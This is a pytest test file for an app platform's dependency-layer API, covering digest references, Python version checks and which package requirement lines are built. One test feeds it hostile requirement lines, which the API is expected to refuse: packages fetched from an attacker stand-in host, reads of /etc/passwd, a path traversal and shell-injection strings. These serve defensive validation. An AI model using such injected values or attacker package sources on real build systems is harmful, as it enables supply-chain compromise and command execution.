"""Layers, as the API has to do with them: a release may name one that is there, and only who knows its whole name."""

from __future__ import annotations

import hashlib
import json
from typing import Any

import pytest

from vaas.platform.bundle_format.zipped import zipped
from vaas.platform.control import layers
from vaas.platform.records import keys
from vaas.platform.records.documents import find
from vaas.platform.records.records import Release

PACKAGES = {
    "layer.json": b'{"packages":{"flask":"3","werkzeug":"3"}}',
    "flask-3.dist-info/METADATA": b"Name: Flask\nRequires-Dist: werkzeug\n",
    "flask/__init__.py": b"",
    "werkzeug-3.dist-info/METADATA": b"Name: Werkzeug\n",
    "werkzeug/__init__.py": b"",
}


def named(digest: str) -> dict[str, str]:
    return {"_vendor/layer.json": json.dumps({"layer": digest}), "requirements.txt": "flask\n"}


def release(api: Any, pack: Any, digest: str, manifest: str = "") -> Any:
    bundle = api.upload(pack(manifest=manifest, files=named(digest)))
    return api.request("POST", "/apps/shop/releases", {"digest": bundle})


@pytest.mark.parametrize("manifest", ["", 'code = "trusted"'])
def test_a_release_names_its_layer_which_is_told_by_its_first_digits_alone(api: Any, pack: Any, manifest: str):
    digest = api.upload(zipped(PACKAGES))
    answer = api.ok(release(api, pack, digest, manifest))["release"]
    assert answer["layer"] == digest[:12]
    assert digest not in json.dumps([api.get("/apps/shop/releases"), api.get("/apps/shop"), api.get("/apps")])
    found = api.run(find(api.store, keys.release("shop", 1), Release))
    assert found.record.layer == digest


def test_restricted_code_asks_for_the_packages_in_its_layer(api: Any, pack: Any):
    digest = api.upload(zipped(PACKAGES))
    answer = api.ok(release(api, pack, digest))["release"]
    assert answer["manifest"]["policy"]["permissions"]["packages"] == ["flask"]


def test_what_is_in_a_layer_is_read_once(api: Any, pack: Any, monkeypatch: pytest.MonkeyPatch):
    digest = api.upload(zipped({**PACKAGES, "once.py": b""}))
    api.ok(release(api, pack, digest))
    monkeypatch.setattr(layers, "fetched", None)
    bundle = api.upload(pack(code="2", files=named(digest)))
    assert api.send("POST", "/apps/shop/releases", {"digest": bundle})["created"]


@pytest.mark.parametrize("manifest", ["", 'code = "trusted"'])
def test_a_layer_that_is_not_there_cannot_be_named(api: Any, pack: Any, manifest: str):
    response = release(api, pack, hashlib.sha256(b"not uploaded").hexdigest(), manifest)
    assert (response.status_code, response.json()["code"]) == (404, "layer-missing")
    assert api.request("GET", "/apps/shop").status_code == 404


@pytest.mark.parametrize(
    "reference",
    [
        "",
        "{}",
        "[]",
        '{"layer":"abc"}',
        '{"layer":1}',
        '{"layer":"%s\\n"}' % ("a" * 64),
        '{"layer":"../%s"}' % ("a" * 61),
    ],
)
def test_a_reference_that_names_no_layer_is_refused(api: Any, pack: Any, reference: str):
    bundle = api.upload(pack(files={"_vendor/layer.json": reference}))
    response = api.request("POST", "/apps/shop/releases", {"digest": bundle})
    assert (response.status_code, response.json()["code"]) == (422, "reference-invalid")


def test_another_apps_bundle_is_no_layer(api: Any, pack: Any):
    digest = api.upload(pack("billing", "SECRET = 1"))
    response = release(api, pack, digest)
    assert (response.status_code, response.json()["code"]) == (422, "no-layer")


def test_old_bundles_with_their_packages_in_them_go_on_working(api: Any, pack: Any):
    files = {f"_vendor/{name}": text.decode() for name, text in PACKAGES.items() if name != "layer.json"}
    bundle = api.upload(pack(files=files))
    answer = api.send("POST", "/apps/shop/releases", {"digest": bundle})["release"]
    assert answer["layer"] == ""
    assert answer["manifest"]["policy"]["permissions"]["packages"] == ["flask"]


@pytest.mark.parametrize(("required", "status"), [(">=3.11", 201), (">=3.99", 422), ("<3", 422), ("==3.*,!=3.99", 201)])
def test_an_app_of_another_python_is_refused_before_anything_starts(api: Any, pack: Any, required: str, status: int):
    project = f'[project]\nname = "shop"\nrequires-python = "{required}"\n'
    bundle = api.upload(pack(files={"pyproject.toml": project}))
    response = api.request("POST", "/apps/shop/releases", {"digest": bundle})
    assert response.status_code == status
    if status == 422:
        assert response.json()["code"] == "python-unfit"
        assert required in response.json()["detail"]


@pytest.mark.parametrize("required", ['"new"', "3.11", '["3.11"]', f'">=3.{"1" * 300}"', '">=3.11 || <3"'])
def test_a_requirement_of_python_that_is_none_is_told_with_its_file(api: Any, pack: Any, required: str):
    bundle = api.upload(pack(files={"pyproject.toml": f"[project]\nrequires-python = {required}\n"}))
    response = api.request("POST", "/apps/shop/releases", {"digest": bundle})
    assert (response.status_code, response.json()["code"]) == (422, "manifest-invalid")
    assert "requires-python" in response.json()["detail"]


@pytest.mark.parametrize(
    "line",
    [
        "flask",
        "Flask==3.1.3",
        "flask[async] >= 3, < 4 ; python_version > '3.11'",
        f"flask==3 --hash=sha256:{'a' * 64} --hash=sha256:{'b' * 64}",
        f"flask==3 ; sys_platform == 'linux' --hash=sha256:{'a' * 64}",
        "zope.interface~=7.0",
    ],
)
def test_the_platform_builds_packages_by_their_names(api: Any, line: str):
    built = api.send("POST", "/layers", {"lines": [line]})
    assert (built["digest"], built["modules"], built["lock"]) == ("a" * 64, ["tiny"], "tiny==1\n")
    assert api.builder.asked == [[line]]


@pytest.mark.parametrize(
    "line",
    [
        *(
            "--index-url https://evil.example",
            "-r /etc/passwd",
            "-e .",
            "./here",
            "/etc/passwd",
            "",
            "# x",
            "tiny\n-e .",
        ),
        *(
            "tiny @ https://evil.example/x.whl",
            "tiny @ file:///etc",
            "git+https://evil.example/x",
            "tiny --config-settings=a",
        ),
        *("tiny==1 --hash=sha256:zz", "tiny; $(touch x)", "${HOME}", "tiny \\", "tiny==1\0", "tiny`x`"),
    ],
)
def test_and_nothing_by_any_other_way(api: Any, line: str):
    response = api.request("POST", "/layers", {"lines": ["flask", line]})
    assert (response.status_code, response.json()["code"]) == (422, "line-refused")
    assert api.builder.asked == []


@pytest.mark.parametrize("lines", [[], ["tiny"] * 5001, ["x" * 100_001], "tiny", None])
def test_lines_to_build_are_bounded(api: Any, lines: Any):
    assert api.request("POST", "/layers", {"lines": lines}).status_code in (413, 422)
    assert api.builder.asked == []
